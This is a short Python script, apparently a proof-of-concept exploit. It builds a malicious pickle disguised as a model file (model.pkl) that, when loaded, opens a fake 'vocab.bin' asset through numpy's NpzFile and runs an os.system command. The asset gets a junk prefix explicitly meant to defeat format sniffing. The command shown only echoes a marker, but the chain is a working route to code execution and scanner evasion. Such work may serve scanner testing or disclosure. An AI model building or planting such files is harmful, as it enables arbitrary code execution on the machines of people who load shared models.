import zipfile, io, os, struct, numpy as np
def U(s): b=s.encode(); return b'X'+struct.pack('<I',len(b))+b
class E:
    def __reduce__(self): return (os.system, ('echo PWNED_npzfile',))
b = io.BytesIO(); np.save(b, np.array([E()], dtype=object), allow_pickle=True)
z = io.BytesIO()
with zipfile.ZipFile(z,'w') as zf: zf.writestr('a.npy', b.getvalue())
os.makedirs('/tmp/r/proj/assets', exist_ok=True)
open('/tmp/r/proj/assets/vocab.bin','wb').write(b'\x00\x01\x02\x03zzzz' + z.getvalue())   # prefix defeats sniffing
p = b"\x80\x02cbuiltins\ndict\ncnumpy.lib.npyio\nNpzFile\n" + U('assets/vocab.bin') + b"\x89\x88\x87R\x85R."
open('/tmp/r/proj/model.pkl','wb').write(p)
